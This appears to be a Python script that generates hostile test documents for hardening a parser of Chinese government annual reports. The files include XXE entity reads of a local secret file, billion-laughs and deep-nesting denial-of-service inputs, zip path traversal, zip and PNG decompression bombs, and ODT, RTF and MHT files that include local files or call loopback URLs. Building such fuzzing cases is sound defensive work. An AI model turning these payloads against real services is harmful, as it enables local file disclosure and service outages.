import zipfile,io,struct,zlib,os
F='/tmp/field5/f/'
open('/tmp/field5/secret.txt','w').write('TOPSECRET-LOCAL 一、总体情况')
CT='<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
REL='<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
def docx(n,doc):
    z=zipfile.ZipFile(F+n,'w',zipfile.ZIP_DEFLATED); z.writestr('[Content_Types].xml',CT); z.writestr('_rels/.rels',REL); z.writestr('word/document.xml',doc); z.close()
W='xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
docx('xxe.docx',f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///tmp/field5/secret.txt">]><w:document {W}><w:body><w:p><w:r><w:t>某镇2023年政府信息公开工作年度报告 &x;</w:t></w:r></w:p></w:body></w:document>')
ents='<!ENTITY a0 "lol">'+''.join(f'<!ENTITY a{i} "{("&a%d;"%(i-1))*10}">' for i in range(1,10))
docx('laughs.docx',f'<?xml version="1.0"?><!DOCTYPE d [{ents}]><w:document {W}><w:body><w:p><w:r><w:t>年度报告 &a9;</w:t></w:r></w:p></w:body></w:document>')
docx('deep.docx',f'<?xml version="1.0"?><w:document {W}><w:body>'+'<w:tbl><w:tr><w:tc>'*5000+'<w:p/>'+'</w:tc></w:tr></w:tbl>'*5000+'</w:body></w:document>')
docx('span.docx',f'<?xml version="1.0"?><w:document {W}><w:body><w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p><w:r><w:t>年度报告 1</w:t></w:r></w:p></w:tc></w:tr></w:tbl></w:body></w:document>')
open(F+'span.html','w').write('<html><body><h1>某镇2023年政府信息公开工作年度报告</h1><table><tr><td colspan=2000000000 rowspan=2000000000>1</td></tr></table></body></html>')
open(F+'deep.html','w').write('<html><body>年度报告'+'<div>'*300000+'x')
open(F+'tables.html','w').write('<html><body>年度报告'+('<table><tr><td>'*3000)+'1')
open(F+'re.txt','w').write('某镇2023年政府信息公开工作年度报告\n一、总体情况\n'+'收到'+'1'*500000+'件，'+'，'*100000+'\n'+'（'*100000)
open(F+'digits.txt','w').write('某镇2023年政府信息公开工作年度报告\n三、'+'0 1 2 3 4 5 6 '*50000)
b=io.BytesIO(); z=zipfile.ZipFile(b,'w',zipfile.ZIP_DEFLATED)
for i in range(3): z.writestr(f'../../../../tmp/field5/EVIL{i}.txt','年度报告')
z.writestr('/tmp/field5/EVILabs.txt','年度报告'); z.close(); open(F+'trav.zip','wb').write(b.getvalue())
z=zipfile.ZipFile(F+'bomb.zip','w',zipfile.ZIP_DEFLATED)
with z.open('年报.txt','w',force_zip64=True) as f:
    for _ in range(1500): f.write(b'0'*1048576)
z.close()
def nest(n,data,name):
    for i in range(n):
        b=io.BytesIO(); z=zipfile.ZipFile(b,'w',zipfile.ZIP_DEFLATED); z.writestr(name if i==0 else f'{i}.zip',data); z.close(); data=b.getvalue()
    return data
open(F+'nest.zip','wb').write(nest(60,'年度报告'.encode(),'a.txt'))
def png(w,h,n):
    c=lambda t,d: struct.pack('>I',len(d))+t+d+struct.pack('>I',zlib.crc32(t+d))
    open(F+n,'wb').write(b'\x89PNG\r\n\x1a\n'+c(b'IHDR',struct.pack('>IIBBBBB',w,h,8,2,0,0,0))+c(b'IDAT',zlib.compress(b'\0'*10000000))+c(b'IEND',b''))
png(60000,60000,'big.png')
def pdf(n,box,content=b'BT /F1 12 Tf 10 10 Td (hi) Tj ET'):
    o=[b'<</Type/Catalog/Pages 2 0 R>>',b'<</Type/Pages/Kids[3 0 R]/Count 1>>',b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 %s]/Contents 4 0 R>>'%box,b'<</Length %d>>stream\n'%len(content)+content+b'\nendstream']
    out=b'%PDF-1.4\n'; xs=[]
    for i,x in enumerate(o,1): xs.append(len(out)); out+=b'%d 0 obj\n'%i+x+b'\nendobj\n'
    p=len(out); out+=b'xref\n0 5\n0000000000 65535 f \n'+b''.join(b'%010d 00000 n \n'%x for x in xs)+b'trailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF'%p
    open(F+n,'wb').write(out)
pdf('huge.pdf',b'10000000 10000000'); pdf('lines.pdf',b'600 800',b'\n'.join(b'%d %d m %d %d l S'%(i%600,0,i%600,800) for i in range(200000)))
# LibreOffice: local and loopback links
ODTM='application/vnd.oasis.opendocument.text'
def odt(n,body):
    z=zipfile.ZipFile(F+n,'w'); z.writestr('mimetype',ODTM)
    z.writestr('META-INF/manifest.xml',f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="{ODTM}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    z.writestr('content.xml',f'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" office:version="1.2"><office:body><office:text>{body}</office:text></office:body></office:document-content>'); z.close()
odt('link.odt','<text:p>某镇2023年政府信息公开工作年度报告</text:p><text:section text:name="s"><text:section-source xlink:href="file:///tmp/field5/secret.txt"/><text:p>old</text:p></text:section><text:p><draw:frame><draw:image xlink:href="http://127.0.0.1:2700/odtimg.png"/></draw:frame></text:p>')
open(F+'link.rtf','wb').write(r'{\rtf1\ansi 2023 report {\field{\*\fldinst INCLUDETEXT "file:///tmp/field5/secret.txt"}{\fldrslt old}}{\field{\*\fldinst INCLUDEPICTURE "http://127.0.0.1:2700/rtf.png" \\d}{\fldrslt pic}}{\*\template http://127.0.0.1:2700/t.dot}\par}'.encode())
open(F+'link.mht','wb').write(b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: file:///C:/a.htm\r\n\r\n<html><body><h1>2023 report</h1><iframe src="file:///tmp/field5/secret.txt"></iframe><img src="http://127.0.0.1:2700/mht.png"><link rel=stylesheet href="http://127.0.0.1:2700/m.css"><object data="file:///tmp/field5/secret.txt"></object></body></html>\r\n--b--\r\n')
